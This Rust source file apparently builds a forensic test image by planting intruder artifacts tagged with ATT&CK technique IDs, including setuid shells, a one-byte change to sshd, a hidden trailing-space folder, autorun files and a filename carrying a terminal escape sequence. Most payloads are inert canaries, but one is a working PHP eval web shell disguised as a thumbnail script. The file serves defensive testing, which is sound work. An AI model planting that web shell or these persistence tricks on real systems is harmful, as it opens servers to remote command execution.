//! Programs the intruder brought or changed. All are canaries: they only say that they ran.

use super::persistence::DAEMON;
use super::plant::Plant;
use crate::error::Result;

/// A script canary: the marker is put together only when it runs.
const SCRIPT: &str = "#!/bin/sh\nm=GBX-CANARY-$((40+2))\necho $m\necho $m >/dev/ttyS0\n";

pub(super) fn plant(plant: &Plant<'_>) -> Result<()> {
    plant.file(DAEMON, 0o755, 395, plant.canary)?;
    // T1548.001: a set-user-id shell in an odd place.
    plant.file("/usr/share/locale/.cache/sh", 0o4755, 380, plant.canary)?;
    // T1554: the real sshd with one byte changed and its time put back.
    plant.flip("/usr/sbin/sshd", 1000)?;
    // T1505.003: a web shell.
    plant.file(
        "/var/www/html/uploads/thumb.php",
        0o644,
        60,
        b"<?php /* thumbnail */ @eval(base64_decode($_POST['q'])); ?>\n",
    )?;
    // T1564.001 and T1105: a folder whose name ends with a space, and what was fetched into it.
    plant.file("/var/tmp/... /k", 0o755, 200, plant.canary)?;
    plant.file("/var/tmp/... /k2", 0o4755, 201, plant.canary)?;
    plant.file("/var/tmp/... /run.sh", 0o755, 202, SCRIPT.as_bytes())?;
    // A name that would retitle the examiner's terminal if it were printed raw.
    plant.file("/var/tmp/... /\u{1b}]0;owned\u{7}.txt", 0o644, 203, b"nothing\n")?;
    // T1036.005: a temporary folder is no place for programs.
    plant.file("/dev/shm/.font-unix", 0o755, 205, plant.canary)?;
    // Names that an autorun of a live system would pick up; nothing may.
    plant.file("/autorun", 0o755, 0, SCRIPT.as_bytes())?;
    plant.file("/.disk/info", 0o644, 0, b"Debian GNU/Linux sample\n")
}
